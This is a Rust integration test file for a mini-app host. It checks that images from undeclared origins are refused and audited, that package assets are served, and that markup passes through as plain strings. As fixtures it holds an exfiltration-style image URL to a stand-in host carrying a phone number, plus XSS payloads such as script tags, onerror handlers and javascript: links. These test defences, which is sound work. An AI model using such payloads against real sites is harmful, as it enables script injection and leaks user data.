//! The simulator's probe: the host hands a page full of markup and script
//! to the embedding app exactly as the mini-app wrote it (pages are data;
//! escaping is the renderer's job, tested in the browser by
//! `crates/cli/tests/serve_browser.rs`), and the probe's counter and clock
//! follow the user's storage and the host's clock. Its images come only
//! from its package's assets: an image from an origin the manifest does not
//! declare is refused, naming the origin, and audited.

use crate::support::*;
use plaza_host::store::{AuditQuery, Outcome};
use plaza_host::{Block, Error};
use plaza_test_programs::SIM_PROBE;
use std::path::Path;
use std::time::Duration;

/// The probe with its `assets/` folder packed in, as `plaza pack` packs it.
async fn install_with_assets(t: &TestHost) {
    let assets = Path::new(SIM_PROBE.manifest)
        .parent()
        .unwrap()
        .join("assets");
    let pkg = package(&SIM_PROBE).with_assets_dir(&assets).unwrap();
    assert_eq!(pkg.asset_names(), ["probe.png"]);
    t.host.install(pkg).await.unwrap();
}

#[tokio::test]
async fn an_image_from_an_undeclared_origin_is_refused_naming_it_and_audited() {
    let t = host();
    install_with_assets(&t).await;
    let s = t.host.session("alice", "test.plaza.sim-probe").unwrap();
    let err = s
        .launch("/?image=https://leak.example/p.png%3Fphone%3D13800138000")
        .await
        .unwrap_err();
    let Error::InvalidPage { app, message } = &err else {
        panic!("expected InvalidPage, got {err:?}");
    };
    assert_eq!(app, "test.plaza.sim-probe");
    assert!(
        message.contains("is from `https://leak.example`, which the manifest does not declare"),
        "{message}"
    );
    let audit = t
        .host
        .audit(&AuditQuery {
            user: Some("alice".into()),
            ..Default::default()
        })
        .unwrap();
    let refused = audit
        .iter()
        .find(|e| e.capability == "page.refused")
        .expect("the refusal is audited");
    assert_eq!(refused.outcome, Outcome::Denied);
    assert!(
        refused.detail.contains("https://leak.example"),
        "{}",
        refused.detail
    );

    // A missing asset is refused too; the package's own asset is shown, and
    // the host serves it.
    let err = s.launch("/?image=asset:other.png").await.unwrap_err();
    assert!(
        err.to_string()
            .contains("`asset:other.png` names no asset of the package (it has `probe.png`)"),
        "{err}"
    );
    let page = s.launch("/?image=asset:probe.png").await.unwrap();
    assert!(
        page.blocks
            .iter()
            .any(|b| matches!(b, Block::Image(i) if i.url == "asset:probe.png")),
        "{}",
        text(&page)
    );
    let asset = t
        .host
        .asset("test.plaza.sim-probe", "probe.png")
        .unwrap()
        .unwrap();
    assert_eq!(asset.content_type(), "image/png");
    assert!(
        t.host
            .asset("test.plaza.sim-probe", "other.png")
            .unwrap()
            .is_none()
    );
    assert_eq!(
        t.host.asset_names("test.plaza.sim-probe").unwrap(),
        ["probe.png"]
    );
    // Declaring the origin for images lets the same page through.
    let declared = format!(
        "{}\n[capabilities.images]\norigins = [\"https://leak.example\"]\n",
        SIM_PROBE.manifest_text().replace("0.1.0", "0.2.0")
    );
    t.host
        .install(package_with_manifest(&SIM_PROBE, &declared))
        .await
        .unwrap();
    let s = t.host.session("bob", "test.plaza.sim-probe").unwrap();
    s.launch("/?image=https://leak.example/p.png")
        .await
        .unwrap();
    // Uninstalling removes the assets with the package.
    t.host.uninstall("test.plaza.sim-probe").await.unwrap();
    assert!(matches!(
        t.host.asset("test.plaza.sim-probe", "probe.png"),
        Err(Error::NotInstalled { .. })
    ));
}

#[tokio::test]
async fn markup_reaches_the_embedding_app_as_plain_strings() {
    let t = host();
    install(&t, &SIM_PROBE).await;
    let s = t.host.session("alice", "test.plaza.sim-probe").unwrap();
    let page = s.launch("/").await.unwrap();
    assert_eq!(
        page.title,
        "<b>Probe</b><script>window.plazaInjected=1</script>"
    );
    let texts: Vec<&str> = page
        .blocks
        .iter()
        .filter_map(|b| match b {
            Block::Text(t) => Some(t.as_str()),
            _ => None,
        })
        .collect();
    assert_eq!(
        texts,
        [
            "<script>window.plazaInjected = 2</script>",
            r#"<img src=x onerror="window.plazaInjected=3">"#
        ],
        "{}",
        text(&page)
    );
    assert_eq!(
        field(&page, "<i>label</i>").as_deref(),
        Some(r#"<a href="javascript:window.plazaInjected=4">value</a>"#)
    );
    assert_eq!(field(&page, "Build").as_deref(), Some("build-one"));
}

#[tokio::test]
async fn the_visit_counter_is_per_user_and_the_clock_is_the_hosts() {
    let t = host();
    install(&t, &SIM_PROBE).await;
    let alice = t.host.session("alice", "test.plaza.sim-probe").unwrap();
    alice.launch("/").await.unwrap();
    let page = alice.tap("again").await.unwrap();
    assert_eq!(field(&page, "Visits").as_deref(), Some("2"));
    let bob = t.host.session("bob", "test.plaza.sim-probe").unwrap();
    let page = bob.launch("/").await.unwrap();
    assert_eq!(field(&page, "Visits").as_deref(), Some("1"));
    let before: i64 = field(&page, "Now").unwrap().parse().unwrap();
    t.clock.advance(Duration::from_secs(3600));
    let page = bob.tap("again").await.unwrap();
    let after: i64 = field(&page, "Now").unwrap().parse().unwrap();
    assert_eq!(after - before, 3_600_000);
}
